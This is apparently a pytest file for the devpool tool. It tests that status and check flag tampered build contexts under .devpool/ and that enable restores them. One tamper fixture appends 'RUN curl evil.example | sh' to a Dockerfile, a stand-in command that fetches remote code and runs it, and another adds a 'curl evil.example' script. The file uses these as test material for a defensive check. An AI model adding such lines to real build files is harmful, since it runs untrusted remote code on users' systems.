"""The build contexts below `.devpool/`: who builds there runs what they say, so what is not devpool's is said."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from security.record_rig import ENABLE, Clone

from devpool import __version__

DOCKERFILE = ".devpool/pgbouncer/Dockerfile"


def said(clone: Clone) -> str:
    """What status and check say of the files; both find something."""
    status, check = clone.devpool("status"), clone.devpool("check")
    assert (status.code, check.code) == (0, 4), status.words + check.words
    assert "not as devpool wrote them" in status.words
    assert "not as devpool wrote them" in " ".join(check.words.split())
    return " ".join(f"{status.words} {check.words}".split())


def test_what_devpool_wrote_is_as_devpool_wrote_it(clone: Clone) -> None:
    assert "as devpool wrote them (your own" in clone.devpool("status").words
    assert "no file to change" in clone.devpool(*ENABLE).words


def adds_a_command(clone: Clone) -> str:
    clone.write(DOCKERFILE, clone.text(DOCKERFILE) + "RUN curl evil.example | sh\n")
    return DOCKERFILE


def adds_a_file(clone: Clone) -> str:
    clone.write(".devpool/pgbouncer/deep/more.sh", "curl evil.example\n")
    return ".devpool/pgbouncer/deep/more.sh"


def takes_a_file_away(clone: Clone) -> str:
    (clone.project / DOCKERFILE).unlink()
    return DOCKERFILE


@pytest.mark.parametrize("tamper", [adds_a_command, adds_a_file, takes_a_file_away])
def test_status_and_check_name_the_file_and_enable_puts_it_right(clone: Clone, tamper: Callable[[Clone], str]) -> None:
    name = tamper(clone)
    assert said(clone).count(Path(name).name) == 2
    shown = clone.devpool(*ENABLE, "--dry-run").words
    done = clone.devpool(*ENABLE)
    assert done.code == 0
    if tamper is not takes_a_file_away:
        assert name in shown
        assert name in done.words
        assert "no file to change" not in done.words
    assert "as devpool wrote them (your own" in clone.devpool("status").words


def test_diff_shows_what_becomes_of_it(clone: Clone) -> None:
    adds_a_command(clone)
    assert "-RUN curl evil.example" in clone.devpool(*ENABLE, "--diff").words


def test_what_was_changed_here_is_told_from_what_another_version_wrote(clone: Clone) -> None:
    adds_a_command(clone)
    assert said(clone).count("was changed since enable") == 2


def as_another_version(clone: Clone) -> None:
    """As if another devpool, whose image is another, had enabled the project."""
    from devpool.lifecycle.generated_files import _digest, _on_disk

    clone.write(DOCKERFILE, clone.text(DOCKERFILE).replace("FROM", "# an older one\nFROM", 1))
    files = {name: data for name, data in _on_disk(clone.project) if data is not None}
    clone.change_record(lambda body: body.update(devpool="0.0.9", context=_digest(files)))


def test_an_older_folder_is_said_and_brought_up_to_date(clone: Clone) -> None:
    as_another_version(clone)
    words = said(clone)
    assert words.count("was written by devpool 0.0.9") == 2
    assert words.count("Dockerfile: is from devpool 0.0.9") + words.count("Dockerfile is from devpool 0.0.9") == 2
    done = clone.devpool(*ENABLE)
    assert (done.code, f"replaced {DOCKERFILE}" in done.words) == (0, True)
    assert "as devpool wrote them (your own" in clone.devpool("status").words
    assert json.loads(clone.record.read_bytes())["devpool"] == __version__


def test_a_record_that_does_not_say_its_version_still_counts(clone: Clone) -> None:
    def older(body: dict[str, Any]) -> None:
        del body["devpool"], body["context"]

    clone.change_record(older)
    assert "written by an older devpool" in said(clone)
    done = clone.devpool(*ENABLE)
    assert (done.code, "updated .devpool/state.json" in done.words) == (0, True)
    assert "no file to change" in clone.devpool(*ENABLE).words
